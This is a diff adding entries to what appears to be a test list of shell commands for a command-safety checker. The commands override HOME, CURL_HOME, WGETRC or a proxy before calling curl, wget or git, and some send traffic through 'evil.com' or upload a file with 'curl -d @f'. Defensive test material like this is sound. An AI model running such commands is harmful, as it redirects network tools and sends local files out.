@@ -48,6 +48,15 @@ LED_ELSEWHERE = [
     *("docker run --rm --env=https_proxy=evil.com a git fetch", "HOME=/w sh -c 'ls; curl a.io'"),
     *("docker exec -e WGETRC=f web wget localhost", "podman run -it -e CURL_HOME=/x a curl ::1"),
     *(
+        'A=1 eval "export HOME=/tmp/x"; curl http://a.io',
+        "env A=1 eval 'export HOME=/w'; curl https://a.io",
+    ),
+    *(
+        "kubectl run x --image=i --env=CURL_HOME=. -- curl localhost",
+        "A=1 export HOME=/w; git pull",
+        "command declare -x HOME=/w; git fetch",
+    ),
+    *(
         "export HOME=/w; HOME=~ ls; curl https://a.io",
         "env $(cat n) sh -c 'curl -d @f https://a.io'",
     ),
